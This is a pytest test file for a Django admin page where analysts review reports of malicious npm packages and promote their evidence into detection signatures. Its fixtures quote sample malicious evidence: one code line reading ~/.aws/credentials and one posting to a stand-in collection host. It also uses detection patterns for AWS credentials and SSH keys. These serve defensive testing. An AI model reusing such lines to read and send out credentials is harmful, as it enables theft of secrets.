"""The report page is where analysts decide: buttons with a reason, context, promote checks, next in queue."""
import re

import pytest

from intel import services
from intel.models import Report, Threat
from signatures.models import Signature
from tests.intel.factories import HASH_A, HASH_B, make_report, make_scan

pytestmark = pytest.mark.django_db

EVIDENCE = ["install.js:3 fs.readFileSync(os.homedir() + '/.aws/credentials')",
            "install.js:9 https.request('https://hooks.example/collect')"]


@pytest.fixture
def analyst(client, carol):
    client.force_login(carol)
    return client


def page_url(report, filters=""):
    return f"/admin/intel/report/{report.pk}/change/" + (f"?_changelist_filters={filters}" if filters else "")


def decide(client, report, action, reason="Checked the tarball", filters="", **extra):
    return client.post(f"/admin/intel/report/{report.pk}/decide/",
                       {"action": action, "reason": reason, "_changelist_filters": filters, **extra})


def test_the_report_page_shows_decisions_and_context(analyst, alice, bob, carol):
    scan = make_scan(alice, score=40, source_hash=HASH_A)
    report = make_report(alice, evidence=EVIDENCE)
    Report.objects.filter(pk=report.pk).update(scan=scan)
    other = make_report(bob, source_hash=HASH_A, source_ref="aws-helper-utils@1.2.3")
    rejected = make_report(alice, source_hash=HASH_B, source_ref="other@1.0.0")
    services.report_review(report=rejected, actor=carol, action="reject", reason="Benign")
    publisher = services.publisher_get_or_create(ecosystem="npm", name="Mallory")
    services.package_version_record(ecosystem="npm", name="aws-helper-utils", version="1.2.3", publisher=publisher)
    html = analyst.get(page_url(report)).content.decode()
    for label in ("Start review", "Verify (creates or strengthens the threat)", "Reject"):
        assert f'value="{label}"' in html
    assert "<li><code>install.js:3 fs.readFileSync(os.homedir() + &#x27;/.aws/credentials&#x27;)</code></li>" in html
    assert f'href="/admin/scans/scan/{scan.pk}/change/"' in html and "score 40" in html
    assert "Same content hash" in html and other.public_id in html and "bob@example.com" in html
    assert "1 verified" not in html and "0 verified · 1 rejected · 1 pending" in html
    assert publisher.public_id in html and "Reputation " in html
    # The reporter is shown by email without a link analysts could not follow.
    assert "alice@example.com" in html and "/admin/accounts/user/" not in html
    assert "No threat recorded" in html


def test_verify_from_the_page_goes_to_the_next_report_of_the_filtered_queue(analyst, alice, bob):
    first = make_report(alice, severity="critical", source_hash=HASH_A)
    make_report(bob, severity="low", source_hash=HASH_B, source_ref="low-pkg@1.0.0")
    nxt = make_report(bob, severity="critical", source_hash=HASH_B, source_ref="next-pkg@1.0.0")
    response = decide(analyst, first, "verify", filters="severity=critical")
    assert response.status_code == 302
    assert response["Location"] == f"/admin/intel/report/{nxt.pk}/change/?_changelist_filters=severity%3Dcritical"
    first.refresh_from_db()
    assert first.status == "verified" and first.threat is not None
    messages = [str(m) for m in response.wsgi_request._messages]
    assert f"Verify: {first.public_id} → {first.threat.reference}." in messages
    # The last one in the queue leads back to the filtered list.
    response = decide(analyst, nxt, "reject", filters="severity=critical")
    assert response["Location"] == "/admin/intel/report/?severity=critical"


def test_start_review_stays_on_the_report(analyst, alice):
    report = make_report(alice)
    response = decide(analyst, report, "start_review", filters="status__exact=submitted")
    assert response["Location"] == page_url(report, "status__exact%3Dsubmitted")
    report.refresh_from_db()
    assert report.status == "in_review"


def test_a_refused_decision_stays_on_the_page_with_the_reason_kept(analyst, alice):
    report = make_report(alice, source_ref="aws-helper-utils", source_hash="")
    response = decide(analyst, report, "verify", reason="Looks like the same family")
    assert response.status_code == 200
    html = response.content.decode()
    assert "names neither a content hash nor an exact package version" in html
    assert 'value="Looks like the same family"' in html
    report.refresh_from_db()
    assert report.status == "submitted" and not Threat.objects.exists()
    response = decide(analyst, report, "reject", reason="   ")
    assert response.status_code == 200 and "Give a reason" in response.content.decode()
    report.refresh_from_db()
    assert report.status == "submitted"


def test_link_to_a_known_threat_adds_the_report_to_its_count(analyst, alice, bob, carol):
    known = make_report(alice, source_hash=HASH_A)
    services.report_review(report=known, actor=carol, action="verify", reason="Confirmed")
    threat = Threat.objects.get()
    second = make_report(bob, source_hash=HASH_B)  # same package version, another tarball
    html = analyst.get(page_url(second)).content.decode()
    assert f'id="link-{threat.reference}"' in html and "Link to this threat" in html
    response = decide(analyst, second, "link", threat=threat.reference, reason="Same family, rebuilt tarball")
    assert response.status_code == 302
    second.refresh_from_db()
    threat.refresh_from_db()
    assert second.status == "verified" and second.threat == threat
    assert Threat.objects.count() == 1 and threat.reports_count == 2
    assert second.history.order_by("-history_id").first().history_change_reason == (
        f"Verify: Linked to {threat.reference}: Same family, rebuilt tarball")


PROMOTE = {
    "phase": "4", "name": "aws_credentials_read", "description": "Reads AWS credentials",
    "pattern": r"\.aws/credentials", "severity": "critical", "weight": "10", "ecosystem": "npm",
    "file_globs": "*.js\npackage.json", "reason": "Generalises to the family",
}


def promote(client, report, **overrides):
    return client.post(f"/admin/intel/report/{report.pk}/promote/", {**PROMOTE, **overrides})


def test_promote_refuses_a_pattern_that_matches_none_of_the_evidence_unless_overridden(analyst, alice, carol):
    report = make_report(alice, evidence=EVIDENCE)
    services.report_review(report=report, actor=carol, action="start_review", reason="Looking")
    response = promote(analyst, report, pattern=r"\.ssh/id_rsa")
    html = response.content.decode()
    assert response.status_code == 200 and "Matches none of the report's 2 evidence line(s)." in html
    assert "matches none of the report's evidence" in " ".join(response.context["form"].errors["override"])
    assert not Signature.objects.exists()
    response = promote(analyst, report, pattern=r"\.ssh/id_rsa", override="on")
    assert response.status_code == 302 and Signature.objects.get().pattern == r"\.ssh/id_rsa"


def test_promote_shows_the_matching_lines_and_links_the_new_signature(analyst, alice, carol):
    report = make_report(alice, evidence=EVIDENCE)
    services.report_review(report=report, actor=carol, action="start_review", reason="Looking")
    tried = promote(analyst, report, _test="1")
    assert tried.status_code == 200 and not Signature.objects.exists()
    assert "Matches 1 of 2 evidence line(s)" in tried.content.decode()
    response = promote(analyst, report)
    assert response.status_code == 302 and response["Location"] == page_url(report)
    signature = Signature.objects.get()
    assert signature.file_globs == ["*.js", "package.json"] and signature.phase == 4
    messages = [str(m) for m in response.wsgi_request._messages]
    assert messages == [f'Promoted {report.public_id} to signature <a href="/admin/signatures/signature/{signature.pk}/change/">'
                        f'<code class="sigil-id">{signature.public_id}</code></a>.']
    html = analyst.get(page_url(report)).content.decode()
    assert f'href="/admin/signatures/signature/{signature.pk}/change/"' in html


def test_promote_refuses_a_pattern_that_matches_benign_self_test_lines(analyst, alice, carol):
    report = make_report(alice, evidence=["scripts: postinstall node-gyp rebuild"])
    services.report_review(report=report, actor=carol, action="start_review", reason="Looking")
    response = promote(analyst, report, pattern="node-gyp rebuild")
    assert response.status_code == 200 and "benign self-test line(s)" in response.content.decode()
    assert not Signature.objects.exists()


def test_a_second_promote_warns_links_the_first_and_needs_a_tick(analyst, alice, carol):
    report = make_report(alice, evidence=EVIDENCE)
    services.report_review(report=report, actor=carol, action="verify", reason="Confirmed")
    assert promote(analyst, report).status_code == 302
    first = Signature.objects.get()
    page = analyst.get(f"/admin/intel/report/{report.pk}/promote/").content.decode()
    assert "Already promoted to" in page and f"/admin/signatures/signature/{first.pk}/change/" in page
    response = promote(analyst, report, name="again")
    assert response.status_code == 200 and response.context["form"].errors.get("again")
    assert Signature.objects.count() == 1
    assert promote(analyst, report, name="again", again="on").status_code == 302
    assert Signature.objects.count() == 2


def test_a_rejected_report_cannot_be_promoted(analyst, alice, carol):
    report = make_report(alice, evidence=EVIDENCE)
    services.report_review(report=report, actor=carol, action="reject", reason="Benign")
    for response in (analyst.get(f"/admin/intel/report/{report.pk}/promote/"), promote(analyst, report)):
        assert response.status_code == 302 and response["Location"] == page_url(report)
    assert not Signature.objects.exists()
    html = analyst.get(page_url(report)).content.decode()
    assert "A rejected report cannot be promoted" in html and 'id="promote-link"' not in html


def test_ids_are_shown_copyable_in_their_real_case(analyst, alice):
    report = make_report(alice)
    html = analyst.get(page_url(report)).content.decode()
    assert re.search(rf'<code class="sigil-id">{report.public_id}</code>', html)


def test_the_scan_page_an_analyst_follows_has_no_dead_end(analyst, alice):
    scan = make_scan(alice, score=40, source_hash=HASH_A)
    html = analyst.get(f"/admin/scans/scan/{scan.pk}/change/").content.decode()
    assert "alice@example.com" in html and "/admin/accounts/user/" not in html
    listing = analyst.get("/admin/scans/scan/").content.decode()
    assert "alice@example.com" in listing and "/admin/accounts/user/" not in listing
